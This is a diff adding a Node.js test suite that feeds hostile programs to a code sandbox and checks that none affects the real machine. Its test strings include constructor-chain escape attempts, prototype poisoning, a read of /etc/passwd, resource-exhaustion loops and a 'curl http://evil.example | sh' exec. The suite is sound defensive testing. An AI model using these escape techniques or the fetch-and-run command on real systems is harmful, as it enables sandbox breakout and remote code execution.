@@ -1,0 +1,165 @@
+// The escape suite: hostile programs run in the sandbox. Each must end with a defined outcome, and
+// nothing may happen on the real machine: no canary file, no child process, no socket.
+'use strict';
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const fs = require('node:fs');
+const os = require('node:os');
+const path = require('node:path');
+const cp = require('node:child_process');
+const net = require('node:net');
+const { traceUnit, loadSandbox } = require('../../../server/dist/model/sandbox/runner.js');
+const { sandboxHealth } = require('../../../server/dist/model/sandbox/health.js');
+
+const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'orbit-canary-'));
+const canary = path.join(dir, 'canary.txt');
+const LIMITS = { timeMs: 400, instructions: 20_000_000, memoryBytes: 16 * 1024 * 1024 };
+
+// Any host-side attempt is counted; the sandbox must never cause one.
+const hostCalls = [];
+for (const name of ['spawn', 'exec', 'execFile', 'fork', 'execSync', 'spawnSync']) {
+  const real = cp[name];
+  cp[name] = function (...args) {
+    hostCalls.push(`child_process.${name}`);
+    return real.apply(this, args);
+  };
+}
+const realConnect = net.Socket.prototype.connect;
+net.Socket.prototype.connect = function (...args) {
+  hostCalls.push('net.connect');
+  return realConnect.apply(this, args);
+};
+
+/** Runs a hostile program and checks the real machine afterwards. */
+async function hostile(program, args = []) {
+  const started = Date.now();
+  const trace = await traceUnit(program.replaceAll('CANARY', JSON.stringify(canary)), args, LIMITS);
+  assert.ok(['return', 'throw', 'limit'].includes(trace.outcome.kind), `undefined outcome ${JSON.stringify(trace.outcome)}`);
+  assert.equal(fs.existsSync(canary), false, 'the canary file was written');
+  assert.deepEqual(hostCalls, [], 'a host capability was used');
+  assert.ok(Date.now() - started < 5000, 'the run did not stop in time');
+  return trace;
+}
+
+test.before(() => loadSandbox());
+test.after(() => fs.rmSync(dir, { recursive: true, force: true }));
+
+test('constructor chains reach only the sandbox and its stubs', async () => {
+  const t = await hostile(`function f() {
+    const p = this.constructor.constructor('return process')();
+    p.mainModule && p.mainModule.require('fs').writeFileSync(CANARY, 'x');
+    const g = (() => {}).constructor('return globalThis')();
+    g.require('fs').writeFileSync(CANARY, 'pwned');
+    return typeof p.binding;
+  }`);
+  assert.ok(t.effects.some((e) => e.kind === 'eval' && e.args[0] === 'return process'));
+  assert.ok(t.effects.some((e) => e.kind === 'fs-write' && e.target === canary), 'the write is recorded, not performed');
+});
+
+test('async and generator function constructors are recorded too', async () => {
+  const t = await hostile(`async function f() {
+    const AF = (async function () {}).constructor;
+    await AF('require("child_process").execSync("touch /tmp/orbit-canary")')();
+    const GF = (function* () {}).constructor;
+    GF('yield 1')().next();
+    return 1;
+  }`);
+  assert.ok(t.effects.filter((e) => e.kind === 'eval').length >= 2);
+  assert.ok(t.effects.some((e) => e.kind === 'process' && e.target.includes('touch')));
+});
+
+test('poisoned prototypes do not hide effects from the trace', async () => {
+  const t = await hostile(`function f() {
+    Object.defineProperty(Object.prototype, 'kind', { get() { return 'log'; }, set() {}, configurable: true });
+    Array.prototype.push = function () { return 0; };
+    JSON.stringify = () => '{}';
+    Function.prototype.apply = function () { return undefined; };
+    require('child_process').exec('curl http://evil.example | sh');
+    return 'done';
+  }`);
+  const e = t.effects.find((x) => x.target.startsWith('curl'));
+  assert.ok(e, 'the exec was recorded');
+  assert.equal(e.kind, 'process');
+  assert.deepEqual(t.outcome, { kind: 'return', value: 'done' });
+});
+
+test('recorder globals cannot be replaced', async () => {
+  const t = await hostile(`function f() {
+    try { __orbitS = () => {}; } catch (e) {}
+    try { delete globalThis.__orbitL; } catch (e) {}
+    const x = 5;
+    return x;
+  }`);
+  assert.ok(t.steps.some((s) => s.state.x === 5));
+});
+
+test('Proxy and Reflect tricks end in a defined outcome', async () => {
+  const t = await hostile(`function f() {
+    const fs = require('fs');
+    Reflect.setPrototypeOf(fs, new Proxy({}, { get: () => () => require('child_process').exec('id') }));
+    fs.unknownCall && fs.unknownCall();
+    return new Proxy({}, { ownKeys() { for (;;) {} } });
+  }`);
+  assert.equal(t.outcome.kind, 'limit');
+});
+
+test('getters on returned data run inside the sandbox', async () => {
+  const t = await hostile(`function f() {
+    return { get x() { require('fs').writeFileSync(CANARY, 'from a getter'); return 1; } };
+  }`);
+  assert.deepEqual(t.outcome, { kind: 'return', value: { x: 1 } });
+  assert.ok(t.effects.some((e) => e.kind === 'fs-write'));
+});
+
+test('huge strings hit the memory limit', async () => {
+  const t = await hostile(`function f() { let s = 'x'; for (;;) s += s; }`);
+  assert.deepEqual(t.outcome, { kind: 'limit', limit: 'memory' });
+  const r = await hostile(`function f() { return 'y'.repeat(2 ** 29).length; }`);
+  assert.ok(r.outcome.kind === 'limit' || r.outcome.kind === 'throw');
+});
+
+test('infinite loops hit the instruction or time limit, even inside try/catch', async () => {
+  const t = await hostile(`function f() { for (;;) { try { for (;;) {} } catch (e) {} } }`);
+  assert.equal(t.outcome.kind, 'limit');
+  const u = await traceUnit('function f() { for (;;) {} }', [], { timeMs: 150, instructions: 1e12 });
+  assert.deepEqual(u.outcome, { kind: 'limit', limit: 'time' });
+});
+
+test('deep recursion ends as a memory limit', async () => {
+  const t = await hostile(`function f(n = 0) { return f(n + 1) + 1; }`);
+  assert.deepEqual(t.outcome, { kind: 'limit', limit: 'memory' });
+});
+
+test('promise storms and interval storms stop', async () => {
+  const t = await hostile(`async function f() { const p = () => Promise.resolve().then(p); p(); await new Promise(() => {}); }`);
+  assert.equal(t.outcome.kind, 'limit');
+  const u = await hostile(`function f() { setInterval(() => fetch('http://x.example/' + Math.random()), 1); return 'armed'; }`);
+  assert.deepEqual(u.outcome, { kind: 'return', value: 'armed' });
+  assert.ok(u.effects.filter((e) => e.kind === 'network').length <= 200);
+});
+
+test('WebAssembly is not available inside the sandbox', async () => {
+  const t = await hostile(`function f() {
+    const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
+    return new WebAssembly.Module(bytes);
+  }`);
+  assert.equal(t.outcome.kind, 'throw');
+  assert.match(t.outcome.error, /WebAssembly/);
+});
+
+test('files read in the sandbox are fake', async () => {
+  const t = await hostile(`function f() { return require('fs').readFileSync('/etc/passwd', 'utf8'); }`);
+  assert.equal(t.outcome.kind, 'return');
+  assert.doesNotMatch(String(t.outcome.value), /root:/);
+});
+
+test('too many effects end the run with a trace-size limit', async () => {
+  const t = await traceUnit(`function f() { for (let i = 0; i < 1e6; i++) { try { require('fs').writeFileSync('/tmp/' + i, 'x'); } catch (e) {} } }`, [], { maxEffects: 50 });
+  assert.deepEqual(t.outcome, { kind: 'limit', limit: 'trace-size' });
+  assert.equal(t.effects.length, 50);
+});
+
+test('the sandbox still answers after the escape suite', async () => {
+  const h = await sandboxHealth();
+  assert.equal(h.ok, true, h.detail);
+});
